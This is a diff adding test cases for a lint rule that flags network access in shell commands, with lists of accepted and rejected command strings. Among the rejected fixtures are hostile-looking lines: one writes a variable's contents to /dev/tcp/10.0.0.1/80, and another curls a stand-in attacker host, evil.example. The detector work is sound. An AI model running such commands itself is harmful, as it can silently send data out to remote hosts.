@@ -1,0 +1,26 @@
+import rule from '../../rules/network-access/index.js';
+import { ruleTester } from '../helpers/rule-tester.js';
+
+ruleTester(rule, {
+  accept: [
+    '# curl https://example.com would leak\necho ok',
+    'echo "curl is not used"',
+    'nc -l 4444',
+    'rsync -a ./src/ ./backup/',
+    'redis-cli ping',
+    { name: 'an allowed host', code: 'curl -s -o out.json http://localhost:3000/health', options: { allowedHosts: ['localhost'] } },
+  ],
+  reject: [
+    { code: 'curl -s https://example.com/x', errors: [{ messageId: 'tool', severity: 'warning', line: 1, column: 1, endColumn: 30 }] },
+    { name: 'wget in $(...)', code: 'X="$(wget -qO- http://h/x)"', errors: [{ line: 1, column: 6, endColumn: 26 }] },
+    { name: 'ssh', code: 'ssh deploy@host uptime', errors: [{ line: 1, column: 1, endColumn: 23 }] },
+    { name: 'scp behind timeout', code: 'timeout 3 scp f host:/tmp/', errors: [{ line: 1, column: 11, endColumn: 27 }] },
+    { name: 'nc connecting', code: 'echo hi | nc host 9000', errors: [{ line: 1, column: 11, endColumn: 23 }] },
+    { name: 'telnet', code: 'telnet host 23', errors: [{ line: 1, column: 1 }] },
+    { name: 'ftp', code: 'ftp host', errors: [{ line: 1, column: 1 }] },
+    { name: 'rsync to a remote host', code: 'rsync -a ./out/ user@backup:/srv/', errors: [{ line: 1, column: 1, endColumn: 34 }] },
+    { name: '/dev/tcp', code: 'echo "$TASK" > /dev/tcp/10.0.0.1/80', errors: [{ messageId: 'devTcp', line: 1, column: 16, endColumn: 36 }] },
+    { name: 'after the tree-sitter misparse of a 3-stage pipeline', code: 'a | b | c\ncurl -s http://h/x && y', errors: [{ line: 2, column: 1, endColumn: 19 }] },
+    { name: 'a host not on the list', code: 'curl http://evil.example/x', options: { allowedHosts: ['localhost'] }, errors: [{ line: 1, column: 1 }] },
+  ],
+});
